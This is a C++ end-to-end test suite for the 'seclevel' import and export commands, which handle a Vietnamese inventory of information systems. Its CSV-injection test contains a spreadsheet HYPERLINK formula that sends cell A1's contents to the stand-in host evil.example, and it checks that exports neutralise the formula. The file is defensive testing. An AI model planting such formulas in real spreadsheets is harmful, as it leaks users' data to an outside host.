// End-to-end tests of `seclevel import` and `seclevel export` on the built binary: dry run, re-import,
// duplicates, all-or-nothing, a legacy encoding, a 1,000,000-row file, CSV injection in everything written.
// Run on SQLite, and once more on PostgreSQL as import_e2e_test_postgres (tests/e2e/BinaryRun.h).
#define BOOST_TEST_MODULE import_e2e
#include <boost/test/unit_test.hpp>

#include "BinaryRun.h"
#include "codec/Json.h"
#include "formats/csv/CsvReader.h"
#include "formats/xlsx/XlsxReader.h"

#include <sys/resource.h>

#include <chrono>

using namespace seclevel;
using namespace seclevel::e2e;

namespace {

const std::string header = "Mã hệ thống,Tên hệ thống,Chủ quản,Cơ quan,Loại hệ thống,Loại thông tin,"
                           "holds_user_accounts,Số chủ thể dữ liệu cá nhân,Giải quyết thủ tục hành chính,"
                           "Dịch vụ kinh doanh có điều kiện,Mức tổn hại quốc phòng, an ninh\n";

std::string row(const std::string& id, const std::string& name, const std::string& subjects = "\"1.500\"")
{
    return id + "," + name + ",UBND tỉnh,UBND-HANAM,noi bo,cong cong,khong," + subjects + ",khong,khong,khong\n";
}

// The header above has one column too many for a naive split ("Mức tổn hại quốc phòng, an ninh" holds a comma):
// quote it as a spreadsheet would.
std::string quotedHeader()
{
    std::string h = header;
    h.replace(h.find("Mức tổn hại"), std::string("Mức tổn hại quốc phòng, an ninh").size(),
              "\"Mức tổn hại quốc phòng, an ninh\"");
    return h;
}

struct Store {
    TempDir dir;
    std::string db = (dir.path / "t.db").string();
    Store()
    {
        Run r = run({"organisation", "add", "UBND-HANAM", "Ủy ban nhân dân tỉnh Hà Nam", "--db", db}, dir.path);
        BOOST_REQUIRE_MESSAGE(r.exitCode == 0, r.err);
    }
    Run importFile(const std::string& name, const std::string& content, std::vector<std::string> extra = {})
    {
        const fs::path file = write(dir.path, name, content);
        std::vector<std::string> args{"import", file.string(), "--db", db, "--lang", "en"};
        args.insert(args.end(), extra.begin(), extra.end());
        return run(args, dir.path);
    }
    std::size_t systems()
    {
        Run r = run({"system", "list", "--db", db, "--format", "json"}, dir.path);
        BOOST_REQUIRE_MESSAGE(r.exitCode == 0, r.err);
        auto doc = json::parse(r.out, "stdout");
        BOOST_REQUIRE(doc.ok());
        return doc->items.size();
    }
};

std::vector<std::vector<std::string>> csvRows(const fs::path& path)
{
    auto rows = readCsvFile(path.string());
    BOOST_REQUIRE(rows.ok());
    std::vector<std::vector<std::string>> out;
    SheetRow r;
    while (*(*rows)->next(r)) {
        std::vector<std::string> cells;
        for (const auto& cell : r.cells)
            cells.push_back(cell.text);
        out.push_back(cells);
    }
    return out;
}

bool startsLive(const std::string& text)
{
    return !text.empty() && (text[0] == '=' || text[0] == '+' || text[0] == '-' || text[0] == '@');
}

} // namespace

BOOST_AUTO_TEST_CASE(dry_run_writes_nothing_and_shows_the_plan)
{
    Store s;
    Run r = s.importFile("a.csv", quotedHeader() + row("HN-A", "A") + row("HN-B", "B"), {"--dry-run"});
    BOOST_TEST(r.exitCode == 0, r.err);
    BOOST_TEST(r.out.find("new: 2") != std::string::npos, r.out);
    BOOST_TEST(r.out.find("Dry run") != std::string::npos);
    BOOST_TEST(s.systems() == 0u);
    BOOST_TEST(r.err.find('\r') == std::string::npos); // no progress bar when stderr is not a terminal
}

BOOST_AUTO_TEST_CASE(reimport_changes_nothing_and_a_changed_row_updates)
{
    Store s;
    const std::string content = quotedHeader() + row("HN-A", "A") + row("HN-B", "B");
    Run first = s.importFile("a.csv", content);
    BOOST_TEST(first.exitCode == 0, first.err);
    BOOST_TEST(s.systems() == 2u);
    Run again = s.importFile("a.csv", content);
    BOOST_TEST(again.exitCode == 0, again.err);
    BOOST_TEST(again.out.find("unchanged: 2") != std::string::npos, again.out);
    BOOST_TEST(again.out.find("Nothing changed") != std::string::npos);
    Run changed = s.importFile("b.csv", quotedHeader() + row("HN-A", "A", "\"150.000\"") + row("HN-B", "B"));
    BOOST_TEST(changed.exitCode == 0, changed.err);
    BOOST_TEST(changed.out.find("changed: 1") != std::string::npos, changed.out);
    Run show = run({"system", "show", "HN-A", "--db", s.db, "--lang", "en"}, s.dir.path);
    BOOST_TEST(show.out.find("1500 → 150000") != std::string::npos, show.out);
}

BOOST_AUTO_TEST_CASE(duplicated_system_ids_are_refused_with_their_rows)
{
    Store s;
    Run r = s.importFile("a.csv", quotedHeader() + row("HN-A", "A") + row("HN-B", "B") + row("HN-A", "A2"),
                         {"--format", "json"});
    BOOST_TEST(r.exitCode == 2, r.err);
    auto doc = json::parse(r.out, "stdout");
    BOOST_REQUIRE(doc.ok());
    BOOST_TEST(doc->find("counts")->find("refused")->integer == 2);
    BOOST_TEST(doc->find("counts")->find("new")->integer == 1);
    BOOST_TEST(doc->find("problems")->items[0].find("row")->integer == 4);
    BOOST_TEST(doc->find("problems")->items[0].find("column")->text == "A");
    BOOST_TEST(s.systems() == 1u);
}

BOOST_AUTO_TEST_CASE(all_or_nothing_commits_nothing_unless_every_row_is_valid)
{
    Store s;
    Run r = s.importFile("a.csv", quotedHeader() + row("HN-A", "A") + row("HN-B", "B", "nhiều"), {"--all-or-nothing"});
    BOOST_TEST(r.exitCode == 2);
    BOOST_TEST(r.err.find("row 3, column H") != std::string::npos, r.err);
    BOOST_TEST(r.out.find("Nothing was written") != std::string::npos, r.out);
    BOOST_TEST(s.systems() == 0u);
    Run partial = s.importFile("a.csv", quotedHeader() + row("HN-A", "A") + row("HN-B", "B", "nhiều"));
    BOOST_TEST(partial.exitCode == 2);
    BOOST_TEST(s.systems() == 1u);
}

BOOST_AUTO_TEST_CASE(legacy_encoding_is_refused_by_name)
{
    Store s;
    Run r =
        s.importFile("old.csv", "M\xE3 h\xEA\xF2 th\xF4\xECng,T\xEAn\nA,H\xEA\xF2 th\xF4\xECng n\xF4\xF2i b\xF4\xF2\n");
    BOOST_TEST(r.exitCode == 2);
    BOOST_TEST(r.err.find("Windows-1258") != std::string::npos, r.err);
    BOOST_TEST(s.systems() == 0u);
}

BOOST_AUTO_TEST_CASE(a_million_rows_is_refused_quickly_within_memory_and_writes_nothing)
{
    Store s;
    std::string content = quotedHeader();
    content.reserve(80u << 20);
    for (int i = 0; i < 1000000; ++i)
        content += row("HN-" + std::to_string(i), "Hệ thống " + std::to_string(i));
    const auto start = std::chrono::steady_clock::now();
    Run r = s.importFile("million.csv", content);
    const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    struct rusage usage {};
    getrusage(RUSAGE_CHILDREN, &usage);
    BOOST_TEST(r.exitCode == 2);
    BOOST_TEST(r.err.find("more than 200000 data rows") != std::string::npos, r.err);
    // Counting the rows is all the work before the refusal: about a second here, far below judging 200,000
    // rows; the bound leaves room for a loaded machine and for the sanitizer build.
#if defined(__SANITIZE_ADDRESS__)
    BOOST_TEST(seconds < 180.0);
#else
    BOOST_TEST(seconds < 60.0);
#endif
    // Kilobytes: the largest child, seclevel included. AddressSanitizer's shadow memory and quarantine (CI's
    // sanitizer run) multiply what a process holds, so there the bound only catches a runaway.
#if defined(__SANITIZE_ADDRESS__)
    BOOST_TEST(usage.ru_maxrss < 1500 * 1024);
#else
    BOOST_TEST(usage.ru_maxrss < 300 * 1024);
#endif
    BOOST_TEST(s.systems() == 0u);
}

BOOST_AUTO_TEST_CASE(csv_injection_is_inert_in_everything_seclevel_writes)
{
    Store s;
    const std::string evil = "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm\"\")\"";
    Run imported = s.importFile("a.csv", quotedHeader() + row("HN-A", evil) + row("HN-B", "B", "@SUM(1)"),
                                {"--errors", (s.dir.path / "errors.csv").string()});
    BOOST_TEST(imported.exitCode == 2, imported.err); // HN-B's count is refused, HN-A stored as it is
    Run xlsxErrors = s.importFile("a.csv", quotedHeader() + row("HN-B", "B", "@SUM(1)"),
                                  {"--errors", (s.dir.path / "errors.xlsx").string()});
    BOOST_TEST(xlsxErrors.exitCode == 2);
    for (const auto& cells : csvRows(s.dir.path / "errors.csv"))
        for (const auto& cell : cells)
            BOOST_TEST(!startsLive(cell), cell);

    Run csv =
        run({"export", "--format", "csv", "--output", (s.dir.path / "out.csv").string(), "--db", s.db}, s.dir.path);
    BOOST_REQUIRE_MESSAGE(csv.exitCode == 0, csv.err);
    bool sawName = false;
    for (const auto& cells : csvRows(s.dir.path / "out.csv"))
        for (const auto& cell : cells) {
            BOOST_TEST(!startsLive(cell), cell);
            sawName = sawName || cell.rfind("'=HYPERLINK", 0) == 0;
        }
    BOOST_TEST(sawName);

    Run xlsx =
        run({"export", "--format", "xlsx", "--output", (s.dir.path / "out.xlsx").string(), "--db", s.db}, s.dir.path);
    BOOST_REQUIRE_MESSAGE(xlsx.exitCode == 0, xlsx.err);
    for (const fs::path& book : {s.dir.path / "out.xlsx", s.dir.path / "errors.xlsx"}) {
        auto rows = readXlsxFile(book.string(), std::nullopt);
        BOOST_REQUIRE(rows.ok());
        SheetRow r;
        while (*(*rows)->next(r))
            for (const auto& cell : r.cells)
                BOOST_TEST(!(cell.kind == SheetCell::Kind::Text && startsLive(cell.text)), cell.text);
    }
    // And what was neutralised reads back as it was: export → import changes nothing.
    for (const std::string file : {"out.csv", "out.xlsx"}) {
        Run again = run({"import", (s.dir.path / file).string(), "--db", s.db, "--lang", "en"}, s.dir.path);
        BOOST_TEST(again.exitCode == 0, again.err);
        BOOST_TEST(again.out.find("unchanged: 1") != std::string::npos, again.out);
    }
}

BOOST_AUTO_TEST_CASE(export_of_components_reimports_unchanged_and_dossiers_in_bulk)
{
    Store s;
    Run added =
        run({"system", "add", std::string(SECLEVEL_SOURCE_DIR) + "/examples/cong-dich-vu-cong-tinh.json", "--db", s.db},
            s.dir.path);
    BOOST_REQUIRE_MESSAGE(added.exitCode == 0, added.err);
    for (const std::string format : {"csv", "xlsx"}) {
        const std::string out = (s.dir.path / ("inventory." + format)).string();
        Run exported = run({"export", "--format", format, "--output", out, "--db", s.db, "--lang", "en"}, s.dir.path);
        BOOST_REQUIRE_MESSAGE(exported.exitCode == 0, exported.err);
        BOOST_TEST(exported.out.find("3 rows, mapping flat-component") != std::string::npos, exported.out);
        Run again = run({"import", out, "--db", s.db, "--lang", "en"}, s.dir.path);
        BOOST_TEST(again.exitCode == 0, again.err);
        BOOST_TEST(again.out.find("unchanged: 1") != std::string::npos, again.out);
    }
    Run dossiers =
        run({"export", "--format", "dossier-xml", "--output", (s.dir.path / "hs").string(), "--db", s.db}, s.dir.path);
    BOOST_TEST(dossiers.exitCode == 0, dossiers.err);
    BOOST_TEST(fs::exists(s.dir.path / "hs" / "HN-DVC-01.xml"));
    Run bad = run({"export", "--format", "pdf", "--output", "x", "--db", s.db}, s.dir.path);
    BOOST_TEST(bad.exitCode == 1);
}
